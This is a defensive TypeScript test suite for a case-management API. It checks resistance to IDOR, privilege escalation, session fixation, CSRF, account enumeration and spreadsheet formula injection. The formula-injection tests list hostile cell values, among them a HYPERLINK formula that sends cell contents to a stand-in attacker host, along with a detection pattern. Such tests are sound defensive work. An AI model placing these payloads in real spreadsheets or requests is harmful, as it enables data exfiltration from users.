import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import ExcelJS from 'exceljs';
import request from 'supertest';
import {
  CSRF_COOKIE,
  CSRF_HEADER,
  SESSION_COOKIE,
  type IndicatorReport,
  type PublishedStatisticsTable,
} from '@haven/contracts';
import { newCase, queryDatabase, type HttpSession } from '@haven/testing';
import { routeTable } from '../../apps/api/src/core/http/route-table.js';
import { indicatorRows, tableRows, toCsv, toXlsx } from '../../apps/api/src/modules/statistics/statistics.mapper.js';
import { registration, startTestApp, TEST_PASSWORD, type TestApp } from '../support/test-app.js';
import { buildMatrixFixtures, callRoute, fillRoute, type MatrixFixtures } from './fixtures.js';
import { ROUTE_MATRIX } from './route-matrix.js';

/** Characters that make a spreadsheet evaluate a cell. */
/** A cell a spreadsheet would evaluate: the ASCII formula characters, tab, carriage return, and their full-width and small forms. */
const FORMULA_START = /^[=+\-@\t\r\uff1d\uff0b\uff0d\uff20\ufe66\ufe62\ufe63\ufe6b]/;
const cookieNamed = (response: request.Response, name: string) =>
  ([] as string[]).concat(response.headers['set-cookie'] ?? []).find((cookie) => cookie.startsWith(`${name}=`));
const cookieValue = (cookie: string | undefined) => cookie?.split(';')[0]!.split('=')[1];

/** The same uuid with one hex digit changed: what someone guessing ids near a known one tries. */
function nearMiss(id: string, position: number): string {
  const index = id.length - 1 - position;
  const digit = parseInt(id[index]!, 16);
  return id.slice(0, index) + ((digit + 1) % 16).toString(16) + id.slice(index + 1);
}

describe('classic attacks', () => {
  let harness: TestApp;
  let fixtures: MatrixFixtures;
  let caseworker: HttpSession;
  let supervisor: HttpSession;

  beforeAll(async () => {
    // A generous per-account limit: the enumeration checks fail on purpose many times.
    harness = await startTestApp({
      environment: { LOGIN_MAX_FAILURES_PER_ACCOUNT: '100', LOGIN_MAX_FAILURES_PER_ADDRESS: '10000' },
    });
    fixtures = await buildMatrixFixtures(harness);
    caseworker = await harness.signInAs('caseworker');
    supervisor = await harness.signInAs('supervisor');
  }, 300_000);
  afterAll(() => harness.close());

  describe('IDOR', () => {
    it('answers 404 to guessed ids near a real one and to other organisations’ ids, on every id-taking route', async () => {
      const sessions = new Map<string, HttpSession>();
      const mismatches: string[] = [];
      let tried = 0;
      for (const [route, entry] of Object.entries(ROUTE_MATRIX)) {
        const [method, pattern] = route.split(' ') as [string, string];
        const names = [...pattern.matchAll(/:(\w+)/g)].map((match) => match[1]!);
        if (!names.length || route === 'POST /api/auth/logout') continue;
        const role = entry.allowed.find((candidate) => entry.exact?.[candidate] === undefined) ?? entry.allowed[0]!;
        const person = role === 'caseworker' ? 'caseworker' : role;
        if (!sessions.has(person)) sessions.set(person, await harness.signInAs(person));
        const session = sessions.get(person)!;
        for (const name of names) {
          const own = fillRoute(`:${name}`, fixtures.own, entry);
          if (!/^[0-9a-f-]{36}$/.test(own)) continue;
          const elsewhere = fillRoute(`:${name}`, role === 'partner' ? fixtures.withdrawn : fixtures.other, entry);
          const guesses = [nearMiss(own, 0), nearMiss(own, 5), ...(elsewhere !== own ? [elsewhere] : [])];
          for (const guess of guesses) {
            const target = pattern
              .replace(`:${name}`, guess)
              .replace(/:(\w+)/g, (_, other: string) => fillRoute(`:${other}`, fixtures.own, entry));
            const response = await callRoute(session, method, target + (entry.query ?? ''), entry.body ?? {});
            tried += 1;
            // A partner's "elsewhere" is its own organisation's withdrawn referral: a step on it is told it ended (the matrix says so).
            const expected =
              role === 'partner' && guess === elsewhere && typeof entry.referred?.withdrawn === 'number'
                ? entry.referred.withdrawn
                : 404;
            if (response.status !== expected)
              mismatches.push(
                `${route} as ${role} with :${name} = ${guess === elsewhere ? 'another scope’s id' : 'a near miss'}: ${response.status}`,
              );
          }
        }
      }
      expect(mismatches).toEqual([]);
      expect(tried).toBeGreaterThan(100);
    }, 120_000);

    it('gives records random identifiers and references, not a sequence', async () => {
      const first = await newCase(caseworker);
      const second = await newCase(caseworker);
      for (const created of [first, second])
        expect(created.id).toMatch(/^[0-9a-f]{8}-[0-9a-f]{4}-4[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$/);
      expect(first.reference).not.toEqual(second.reference);
      const differing = [...first.id].filter((char, index) => char !== second.id[index]).length;
      expect(differing).toBeGreaterThan(10);
    });
  });

  describe('privilege escalation and mass assignment', () => {
    const ESCALATION = { role: 'admin', organisationId: '', active: true, email: 'taken-over@test.haven.test' };

    it('lets no caseworker or supervisor change their own role or organisation, through any user or account route', async () => {
      const userRoutes = routeTable(harness.app).filter(
        (route) =>
          !route.isPublic &&
          route.method !== 'GET' &&
          /^\/api\/(users|auth|account|me)\b/.test(route.path) &&
          route.path !== '/api/auth/logout',
      );
      expect(userRoutes.length).toBeGreaterThan(1);
      for (const person of ['caseworker', 'supervisor'] as const) {
        const session = await harness.signInAs(person);
        const self = harness.people[person];
        for (const route of userRoutes) {
          const entry = ROUTE_MATRIX[`${route.method} ${route.path}`] ?? { allowed: [] };
          const path = route.path.replace(/:(\w+)/g, self.id);
          const body = { ...(entry.body ?? {}), ...ESCALATION, organisationId: harness.organisations.operations };
          const response = await callRoute(session, route.method, path, body);
          // A route that reads a body must refuse the extra fields; one that reads none ignores them (the stored row is checked below).
          const takesBody = !!entry.body || !!route.contract?.body;
          expect({
            route: `${route.method} ${route.path}`,
            person,
            status: response.status < 500,
            refused: takesBody ? response.status >= 400 : true,
          }).toEqual({ route: `${route.method} ${route.path}`, person, status: true, refused: true });
        }
        const [stored] = await queryDatabase<{ role: string; organisation_id: string; email: string }>(
          harness.database.url,
          'SELECT role, organisation_id, email FROM app."user" WHERE id = $1',
          [self.id],
        );
        expect(stored).toEqual({ role: person, organisation_id: self.organisationId, email: self.email });
        expect((await session.get('/api/auth/me')).body.user.role).toBe(person);
      }
    });

    it('refuses the administrative routes to a supervisor, whatever the body says', async () => {
      // A route that addresses a record answers 404 to a role that may not use it (nothing is revealed).
      // Supervisors manage caseworkers of their own organisation only: never a peer, never another organisation's.
      for (const target of [harness.people.otherCaseworker.id, harness.people.otherSupervisor.id]) {
        expect((await supervisor.post(`/api/users/${target}/deactivate`, { role: 'admin' })).status).toBe(404);
      }
      const peer = await harness.addPerson({
        email: 'peer.supervisor@test.haven.test',
        displayName: 'Peer Supervisor',
        role: 'supervisor',
        organisation: 'shelterA',
      });
      expect((await supervisor.post(`/api/users/${peer.id}/deactivate`)).status).toBe(404);
      expect((await supervisor.patch(`/api/users/${peer.id}`, { role: 'caseworker' })).status).toBe(404);
      expect(
        (await supervisor.patch(`/api/users/${harness.people.caseworker.id}`, { role: 'supervisor' })).status,
      ).toBe(403);
      expect((await supervisor.patch(`/api/users/${harness.people.caseworker.id}`, { role: 'admin' })).status).toBe(
        403,
      );
      const organisation = await supervisor.patch(`/api/organisations/${harness.organisations.shelterA}`, {
        acceptingReferrals: true,
        kind: 'system',
      });
      expect(organisation.status).toBe(404);
      const users = await queryDatabase<{ active: boolean; role: string }>(
        harness.database.url,
        'SELECT active, role FROM app."user" WHERE id = ANY($1) ORDER BY role',
        [[harness.people.caseworker.id, harness.people.otherCaseworker.id, harness.people.otherSupervisor.id, peer.id]],
      );
      expect(users).toEqual([
        { active: true, role: 'caseworker' },
        { active: true, role: 'caseworker' },
        { active: true, role: 'supervisor' },
        { active: true, role: 'supervisor' },
      ]);
      const [organisationRow] = await queryDatabase<{ kind: string }>(
        harness.database.url,
        'SELECT kind FROM app.organisation WHERE id = $1',
        [harness.organisations.shelterA],
      );
      expect(organisationRow!.kind).toBe('shelter');
    });

    it('refuses extra fields that would set ownership, identity, version or authorship on create and update, and writes nothing', async () => {
      const extras = {
        id: '00000000-0000-4000-8000-000000000001',
        organisationId: harness.organisations.shelterB,
        ownerOrganisationId: harness.organisations.shelterB,
        version: 7,
        createdBy: harness.people.otherCaseworker.id,
        registeredBy: harness.people.otherCaseworker.id,
        reference: 'HV-CHOSEN-0001',
      };
      const [{ count: casesBefore }] = await queryDatabase<{ count: string }>(
        harness.database.url,
        'SELECT count(*) FROM app."case"',
      );
      const create = await caseworker.post('/api/cases', { ...registration(), ...extras });
      expect(create.status).toBe(400);
      const named = (create.body.errors as { message: string }[]).map((error) => error.message).join(' ');
      for (const field of ['id', 'organisationId', 'ownerOrganisationId', 'createdBy', 'registeredBy', 'reference'])
        expect(named).toContain(field);
      const [{ count: casesAfter }] = await queryDatabase<{ count: string }>(
        harness.database.url,
        'SELECT count(*) FROM app."case"',
      );
      expect(casesAfter).toBe(casesBefore);

      const caseId = fixtures.own.id!;
      const [before] = await queryDatabase<{ version: number; organisation_id: string }>(
        harness.database.url,
        'SELECT version, organisation_id FROM app."case" WHERE id = $1',
        [caseId],
      );
      const current = (await caseworker.get(`/api/cases/${caseId}`)).body;
      const update = await caseworker.patch(`/api/cases/${caseId}`, {
        version: current.version,
        stage: 'assessment',
        organisationId: harness.organisations.shelterB,
        reference: 'HV-CHOSEN-0002',
      });
      expect(update.status).toBe(400);
      const note = await caseworker.post(`/api/cases/${caseId}/notes`, {
        body: 'Extra fields',
        authorId: harness.people.supervisor.id,
        createdAt: '2020-01-01T00:00:00Z',
      });
      expect(note.status).toBe(400);
      const [after] = await queryDatabase<{ version: number; organisation_id: string }>(
        harness.database.url,
        'SELECT version, organisation_id FROM app."case" WHERE id = $1',
        [caseId],
      );
      expect(after).toEqual(before);
    });

    it('does not let a case be registered to, or assigned to, someone of another organisation', async () => {
      const registered = await caseworker.post(
        '/api/cases',
        registration({ assigneeId: harness.people.otherCaseworker.id }),
      );
      expect(registered.status).toBeGreaterThanOrEqual(400);
      expect(registered.status).toBeLessThan(500);
      const caseId = fixtures.own.id!;
      const current = (await supervisor.get(`/api/cases/${caseId}`)).body;
      const assigned = await supervisor.post(`/api/cases/${caseId}/assignee`, {
        version: current.version,
        assigneeId: harness.people.otherCaseworker.id,
      });
      expect(assigned.status).toBeGreaterThanOrEqual(400);
      expect(assigned.status).toBeLessThan(500);
      const [stored] = await queryDatabase<{ assignee_id: string | null }>(
        harness.database.url,
        'SELECT assignee_id FROM app."case" WHERE id = $1',
        [caseId],
      );
      expect(stored!.assignee_id).not.toBe(harness.people.otherCaseworker.id);
    });
  });

  describe('sessions', () => {
    const login = (cookie?: string) => {
      const pending = request(harness.server).post('/api/auth/login');
      return (cookie ? pending.set('Cookie', cookie) : pending).send({
        email: harness.people.colleague.email,
        password: TEST_PASSWORD,
      });
    };

    it('does not adopt a session cookie set before sign-in, and issues a new token at every sign-in', async () => {
      const planted = 'attacker-chosen-session-token-0123456789abcdef';
      const response = await login(`${SESSION_COOKIE}=${planted}`);
      expect(response.status).toBe(200);
      const issued = cookieValue(cookieNamed(response, SESSION_COOKIE));
      expect(issued).toBeDefined();
      expect(issued).not.toBe(planted);
      const withPlanted = await request(harness.server)
        .get('/api/auth/me')
        .set('Cookie', `${SESSION_COOKIE}=${planted}`);
      expect(withPlanted.status).toBe(401);
      const again = cookieValue(cookieNamed(await login(`${SESSION_COOKIE}=${issued}`), SESSION_COOKIE));
      expect(again).not.toBe(issued);
      expect(
        (await request(harness.server).get('/api/auth/me').set('Cookie', `${SESSION_COOKIE}=${again}`)).status,
      ).toBe(200);
    });

    it('ends the session on the server at sign-out: the old cookie no longer works', async () => {
      const response = await login();
      const token = cookieValue(cookieNamed(response, SESSION_COOKIE))!;
      const csrf = response.body.csrfToken as string;
      const cookie = `${SESSION_COOKIE}=${token}; ${CSRF_COOKIE}=${csrf}`;
      expect((await request(harness.server).get('/api/auth/me').set('Cookie', cookie)).status).toBe(200);
      expect(
        (await request(harness.server).post('/api/auth/logout').set('Cookie', cookie).set(CSRF_HEADER, csrf).send({}))
          .status,
      ).toBe(204);
      expect((await request(harness.server).get('/api/auth/me').set('Cookie', cookie)).status).toBe(401);
      expect(
        (
          await request(harness.server)
            .post('/api/cases')
            .set('Cookie', cookie)
            .set(CSRF_HEADER, csrf)
            .send(registration())
        ).status,
      ).toBe(401);
    });

    it('sets the session cookie httpOnly and both cookies SameSite=Strict', async () => {
      const response = await login();
      const session = cookieNamed(response, SESSION_COOKIE)!;
      const csrf = cookieNamed(response, CSRF_COOKIE)!;
      expect(session).toMatch(/;\s*HttpOnly/i);
      expect(session).toMatch(/;\s*SameSite=Strict/i);
      expect(session).toMatch(/;\s*Path=\//i);
      expect(csrf).toMatch(/;\s*SameSite=Strict/i);
      // The web app reads this one to echo it; it is worthless without the httpOnly session cookie.
      expect(csrf).not.toMatch(/HttpOnly/i);
    });
  });

  describe('CSRF', () => {
    it('refuses every write without the anti-forgery header, with a wrong one, or with another session’s', async () => {
      const other = await harness.signInAs('colleague');
      const writes = routeTable(harness.app).filter((route) => !route.isPublic && route.method !== 'GET');
      expect(writes.length).toBeGreaterThan(30);
      for (const route of writes) {
        const entry = ROUTE_MATRIX[`${route.method} ${route.path}`] ?? { allowed: [] };
        const path = fillRoute(route.path, fixtures.own, entry);
        const verb = route.method.toLowerCase() as 'post' | 'patch' | 'put' | 'delete';
        for (const [label, header] of [
          ['no header', undefined],
          ['a wrong token', 'forged-token'],
          ['another session’s token', other.me.csrfToken],
        ] as const) {
          const pending = caseworker.agent[verb](path);
          const response = await (header ? pending.set(CSRF_HEADER, header) : pending).send(entry.body ?? {});
          expect({ route: `${route.method} ${route.path}`, label, status: response.status }).toEqual({
            route: `${route.method} ${route.path}`,
            label,
            status: 403,
          });
        }
      }
      // The session still works with its own token: the refusals were about the token.
      expect(
        (await caseworker.post(`/api/cases/${fixtures.own.id}/notes`, { body: 'After the forgeries' })).status,
      ).toBe(201);
    });

    it('refuses a cross-site form post to sign in (only JSON is read)', async () => {
      const form = await request(harness.server)
        .post('/api/auth/login')
        .type('form')
        .send({ email: harness.people.caseworker.email, password: TEST_PASSWORD });
      expect(form.status).toBe(400);
      expect(cookieNamed(form, SESSION_COOKIE)).toBeUndefined();
      const plain = await request(harness.server)
        .post('/api/auth/login')
        .set('Content-Type', 'text/plain')
        .send(JSON.stringify({ email: harness.people.caseworker.email, password: TEST_PASSWORD }));
      expect(plain.status).toBe(400);
    });
  });

  describe('formula injection in statistics downloads', () => {
    const HOSTILE = [
      '=HYPERLINK("http://attacker.invalid/?"&A1,"open")',
      '+1+1',
      '-2+3',
      '@SUM(A1:A9)',
      '\t=1',
      '\r=1',
      '\uff1dHYPERLINK("http://attacker.invalid")',
      '\uff0b1',
      '\uff0d1',
      '\uff20SUM(A1)',
    ];

    async function xlsxCells(buffer: Buffer): Promise<ExcelJS.Cell[]> {
      const workbook = new ExcelJS.Workbook();
      await workbook.xlsx.load(buffer as unknown as Parameters<typeof workbook.xlsx.load>[0]);
      const cells: ExcelJS.Cell[] = [];
      workbook.eachSheet((sheet) => sheet.eachRow((row) => row.eachCell((cell) => cells.push(cell))));
      return cells;
    }

    // The served files themselves, on enough synthetic people to publish, are checked in tests/api/statistics.spec.ts.
    it('turns every label that could start a formula into inert text, in CSV and XLSX', async () => {
      const figure = (key: (string | null)[], display: string) => ({ key, value: 12, display, suppressed: false });
      const table = {
        table: 'cases-by-status',
        title: HOSTILE[0],
        description: HOSTILE[1],
        from: '2025-01',
        to: '2025-12',
        granularity: 'quarter',
        periods: [HOSTILE[2]],
        dimensions: ['period', HOSTILE[3]],
        cells: HOSTILE.map((label) => figure([HOSTILE[2]!, label], label)),
        totals: [figure([HOSTILE[2]!, null], '=12')],
        population: [figure([HOSTILE[4]!], '-12')],
        withheldPeriods: [],
        openPeriods: [],
        percentages: null,
        k: 11,
        maxPerturbation: 5,
        epsilon: null,
        withoutConsent: 'totals',
      } as unknown as PublishedStatisticsTable;
      const report = {
        from: '2025-01',
        to: '2025-12',
        granularity: 'quarter',
        periods: [HOSTILE[5]],
        indicators: [
          {
            indicator: 'referralsCompleted',
            title: HOSTILE[0],
            definition: HOSTILE[3],
            values: [figure([HOSTILE[5]!], '+7')],
          },
        ],
        withheldPeriods: [],
        openPeriods: [],
        k: 11,
        maxPerturbation: 5,
        epsilon: null,
        withoutConsent: 'totals',
      } as unknown as IndicatorReport;
      for (const rows of [tableRows(table), indicatorRows(report)]) {
        const csv = toCsv(rows);
        const fields = csv
          .split('\r\n')
          .flatMap((line) => line.split(','))
          .map((field) => field.replace(/^"/, ''));
        expect(fields.filter((field) => FORMULA_START.test(field))).toEqual([]);
        expect(csv).toContain(`'=HYPERLINK`);
        const cells = await xlsxCells(await toXlsx(rows, [[HOSTILE[0]!, HOSTILE[3]!]]));
        expect(cells.filter((cell) => cell.type === ExcelJS.ValueType.Formula)).toEqual([]);
        expect(cells.map((cell) => String(cell.value ?? '')).filter((text) => FORMULA_START.test(text))).toEqual([]);
      }
    });
  });

  describe('enumeration', () => {
    const attempt = (email: string, password: string) =>
      request(harness.server).post('/api/auth/login').send({ email, password });

    it('answers an unknown e-mail exactly as a wrong password, in a similar time', async () => {
      const unknown = await attempt('nobody-here@test.haven.test', 'Wrong-password-123');
      const wrong = await attempt(harness.people.caseworker.email, 'Wrong-password-123');
      expect(unknown.status).toBe(401);
      expect({ status: unknown.status, body: unknown.body, type: unknown.headers['content-type'] }).toEqual({
        status: wrong.status,
        body: wrong.body,
        type: wrong.headers['content-type'],
      });
      const timeOf = async (email: string) => {
        const started = process.hrtime.bigint();
        await attempt(email, 'Wrong-password-123');
        return Number(process.hrtime.bigint() - started) / 1e6;
      };
      const median = (values: number[]) => values.sort((a, b) => a - b)[Math.floor(values.length / 2)]!;
      const unknownTimes: number[] = [];
      const knownTimes: number[] = [];
      for (let round = 0; round < 3; round += 1) {
        unknownTimes.push(await timeOf(`nobody-${round}@test.haven.test`));
        knownTimes.push(await timeOf(harness.people.supervisor.email));
      }
      const ratio = median(unknownTimes) / median(knownTimes);
      // Same order of magnitude: both verify a password hash (a decoy for unknown e-mails).
      expect(ratio).toBeGreaterThan(0.33);
      expect(ratio).toBeLessThan(3);
    });

    it('answers a deactivated account like a wrong password', async () => {
      const admin = await harness.signInAs('admin');
      expect((await admin.post(`/api/users/${harness.people.otherSupervisor.id}/deactivate`)).status).toBe(204);
      const deactivated = await attempt(harness.people.otherSupervisor.email, TEST_PASSWORD);
      const unknown = await attempt('nobody-else@test.haven.test', TEST_PASSWORD);
      expect({ status: deactivated.status, body: deactivated.body }).toEqual({
        status: unknown.status,
        body: unknown.body,
      });
    });

    it('reveals nothing about other organisations’ survivors through the duplicate check', async () => {
      const person = { givenName: 'Ozioma', familyName: 'Elsewhereperson', dateOfBirth: '1999-03-04' };
      const other = await harness.signInAs('otherCaseworker');
      await newCase(other, { ...person, estimatedAge: undefined });
      const probe = await caseworker.post('/api/cases/duplicate-check', person);
      const nobody = await caseworker.post('/api/cases/duplicate-check', {
        ...person,
        givenName: 'Nonexistent',
        familyName: 'Nobodyperson',
      });
      expect(probe.status).toBe(200);
      expect(probe.body).toEqual({ possibleDuplicates: [], withheldDuplicate: false });
      expect(probe.body).toEqual(nobody.body);
      // The same person in the caller's own organisation is found: the check works, it is only scoped.
      await newCase(caseworker, { ...person, estimatedAge: undefined });
      expect((await caseworker.post('/api/cases/duplicate-check', person)).body.possibleDuplicates).toHaveLength(1);
    });
  });
});
